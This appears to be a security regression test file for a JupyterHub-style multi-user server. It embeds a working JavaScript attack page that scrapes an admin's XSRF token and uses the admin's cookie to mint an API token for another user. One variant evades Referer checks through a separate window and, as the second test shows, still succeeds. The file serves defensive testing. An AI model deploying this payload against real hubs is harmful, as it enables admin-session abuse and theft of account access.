"""A user's page against the admin who opens it, in a real browser (issue 13, attack 2).

alice, a real account, serves a page from her own JupyterLab with a few lines of her own Jupyter
config (``extra_static_paths``: no admin's help needed). An admin, with ``admin_access`` on, opens
it in headless Chromium. Its script does what the attack did: fetch /hub/home for the admin's
_xsrf, then mint an API token for bob with the admin's cookie. Before the hub's guard both
worked (200, then 201); the guard refuses both. What the guard cannot stop (a hub page the script
opens in a window of its own) is in SECURITY.md, Known limits. Over the fake daemon, with the
headers spelled out: tests/api/hub/test_user_pages.py.
"""

from __future__ import annotations

import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from tests.api.hub.systemd.conftest import Hub, PamUser
from tests.api.hub.systemd.test_browser import run_in_chromium
from tests.hostd.daemon.systemd.conftest import Daemon

pytestmark = pytest.mark.systemd

SCRIPT = Path(__file__).with_name("browser") / "user_page_attack.cjs"

ATTACK_PAGE = r"""<!doctype html>
<title>loading</title>
<script>
(async () => {
  const seen = {};
  const hub = new URLSearchParams(location.search).get("hub");
  if (hub !== null) {
    // The attack past the partial guard: a hub page in a window of its own, read, then a
    // write that sends no Referer.
    seen.origin = location.origin;
    seen.server = (await fetch(location.pathname.replace(/static\/.*/, "api/status"))).status;
    let xsrf = null;
    try {
      const w = window.open(hub + "/hub/home", "_blank");
      for (let i = 0; i < 200; i++) {
        await new Promise((r) => setTimeout(r, 100));
        if (w.location.pathname === "/hub/home" && w.document.readyState === "complete") break;
      }
      const found = w.document.documentElement.outerHTML.match(/name="_xsrf" value="([^"]+)"/);
      xsrf = found ? found[1] : null;
      seen.read = xsrf ? "read" : "no-token";
    } catch (error) {
      seen.read = "blocked";
    }
    try {
      const made = await fetch(hub + "/hub/api/users/BOB/tokens", {
        method: "POST",
        credentials: "include",
        referrerPolicy: "no-referrer",
        headers: {"X-XSRFToken": xsrf || "", "Content-Type": "application/json"},
        body: JSON.stringify({note: "left in alice's home"}),
      });
      seen.token = made.status;
    } catch (error) {
      seen.token = "failed";
    }
    document.title = "done:" + JSON.stringify(seen);
    return;
  }
  try {
    const home = await fetch("/hub/home");
    seen.home = home.status;
    const xsrf = (await home.text()).match(/name="_xsrf" value="([^"]+)"/);
    seen.xsrf = Boolean(xsrf);
    const made = await fetch("/hub/api/users/BOB/tokens", {
      method: "POST",
      headers: {"X-XSRFToken": xsrf ? xsrf[1] : "", "Content-Type": "application/json"},
      body: JSON.stringify({note: "left in alice's home"}),
    });
    seen.token = made.status;
  } catch (error) {
    seen.error = String(error);
  }
  document.title = "done:" + JSON.stringify(seen);
})();
</script>
"""


@pytest.fixture(scope="module")
def hub_options() -> dict[str, Any]:
    return {"admin_access": True}


def serve_attack_page(alice: str, bob: str) -> None:
    """alice's own doing: a page in her home and her Jupyter config serving it as static."""
    home = Path(f"/home/{alice}")
    (home / "evil").mkdir()
    (home / "evil" / "attack.html").write_text(ATTACK_PAGE.replace("BOB", bob))
    (home / ".jupyter").mkdir()
    (home / ".jupyter" / "jupyter_server_config.py").write_text(
        f'c.ServerApp.extra_static_paths = ["{home / "evil"}"]\n'
    )
    for path in (home / "evil", home / ".jupyter"):
        shutil.chown(path, alice, alice)
        for child in path.iterdir():
            shutil.chown(child, alice, alice)


def test_alices_page_cannot_use_the_admins_cookie_on_the_hub(
    hub: Hub, lab_daemon: Daemon, make_pam_user: Callable[..., PamUser]
) -> None:
    admin, alice, bob = make_pam_user(admin=True), make_pam_user(), make_pam_user()
    serve_attack_page(alice.name, bob.name)
    status, body = lab_daemon.api("POST", f"/v1/sessions/{alice.name}", {})
    assert status == 201 and body["state"] == "running", body
    page = f"/user/{alice.name}/static/attack.html"
    seen = run_in_chromium(hub, SCRIPT, admin.name, admin.password, page, timeout=300)
    # Before the guard: {"home": 200, "xsrf": true, "token": 201}.
    assert seen == {"home": 403, "xsrf": False, "token": 403}, (seen, hub.tail())
    assert "refused" in hub.tail()


def test_without_subdomains_a_window_of_its_own_reads_the_hub(
    hub: Hub, lab_daemon: Daemon, make_pam_user: Callable[..., PamUser]
) -> None:
    """The known limit of the shared origin, shown (SECURITY.md): what subdomain_host closes
    (tests/api/hub/systemd/test_user_subdomains.py runs this same page at alice's origin)."""
    admin, alice, bob = make_pam_user(admin=True), make_pam_user(), make_pam_user()
    serve_attack_page(alice.name, bob.name)
    status, body = lab_daemon.api("POST", f"/v1/sessions/{alice.name}", {})
    assert status == 201 and body["state"] == "running", body
    page = f"/user/{alice.name}/static/attack.html?hub={hub.url}"
    seen = run_in_chromium(hub, SCRIPT, admin.name, admin.password, page, timeout=300)
    assert seen["origin"] == hub.url and seen["server"] == 200, seen
    assert seen["read"] == "read", seen
    assert seen["token"] == 201, seen  # a token for bob, made with the admin's cookie
